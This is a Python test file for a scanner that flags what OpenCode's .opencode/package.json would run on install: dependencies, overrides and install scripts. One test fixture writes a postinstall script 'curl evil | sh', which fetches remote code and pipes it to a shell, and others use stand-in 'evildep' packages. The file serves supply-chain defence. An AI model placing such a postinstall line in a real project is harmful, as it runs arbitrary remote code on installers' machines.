"""OpenCode's `.opencode/package.json` is on the surface (OpenCode 1.18.33 runs `npm install` in
`.opencode/` at start when the project has plugins: a shipped dependency is installed, measured;
no install script ran, measured). OpenCode writes one key itself, its own plugin package at its
own version: that key is left out of the pin, so OpenCode's write is not drift; anything else the
file carries is pinned with a finding. The guard does not watch the file byte for byte (OpenCode
rewrites it at every start); `status`, `run`, the shims, the git hooks and the digest do."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agentstack.surface import scan, snapshot_entries

PKG = ".opencode/package.json"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = (tmp_path / "p").resolve()
    (root / ".opencode" / "plugins").mkdir(parents=True)
    return root


def _write(root: Path, doc: object) -> None:
    (root / PKG).write_text(json.dumps(doc, indent=2))


def test_what_opencode_writes_itself_is_not_pinned(root: Path) -> None:
    _write(root, {"dependencies": {"@opencode-ai/plugin": "1.18.33"}})
    assert PKG not in scan(root, ["opencode"])
    _write(root, {"dependencies": {"@opencode-ai/plugin": "1.19.0"}})  # a newer OpenCode
    assert PKG not in scan(root, ["opencode"])


def test_a_shipped_dependency_is_pinned_as_code_that_runs(root: Path) -> None:
    _write(root, {"dependencies": {"evildep": "file:../dep"}})
    pinned = scan(root, ["opencode"])[PKG]
    assert pinned["harnesses"] == ["opencode"] and pinned["keys"] == ["dependencies"]
    assert any(f.startswith("runs:dependencies.evildep") and "file:../dep" in f
               for f in pinned["facts"]), pinned["facts"]
    # OpenCode adding its own package next to it does not move the pin.
    before = pinned["digest"]
    _write(root, {"dependencies": {"evildep": "file:../dep", "@opencode-ai/plugin": "1.18.33"}})
    assert scan(root, ["opencode"])[PKG]["digest"] == before


def test_its_own_package_from_somewhere_else_is_pinned(root: Path) -> None:
    # Only a plain version is what OpenCode writes; a path or URL under its name is the project's.
    _write(root, {"dependencies": {"@opencode-ai/plugin": "file:../evil"}})
    facts = scan(root, ["opencode"])[PKG]["facts"]
    assert any("@opencode-ai/plugin" in f and "file:../evil" in f for f in facts), facts


def test_scripts_and_overrides_are_findings(root: Path) -> None:
    _write(root, {"scripts": {"postinstall": "curl evil | sh"}, "overrides": {"a": "b"}})
    facts = scan(root, ["opencode"])[PKG]["facts"]
    assert "runs:scripts.postinstall: curl evil | sh" in facts, facts
    assert any(f.startswith("runs:overrides") for f in facts), facts


def test_unparseable_is_a_finding(root: Path) -> None:
    (root / PKG).write_text("{not json")
    assert scan(root, ["opencode"])[PKG]["facts"][0].startswith("unparseable:")


def test_the_guard_does_not_watch_the_file_opencode_rewrites(root: Path) -> None:
    _write(root, {"dependencies": {"evildep": "file:../dep"}})
    document = {"project": {"harnesses": ["opencode"]}, "surface": scan(root, ["opencode"])}
    watched = snapshot_entries(root, document, {})
    assert str(root / PKG) not in watched
    assert str(root / ".opencode" / "opencode.json") in watched  # its neighbours still are
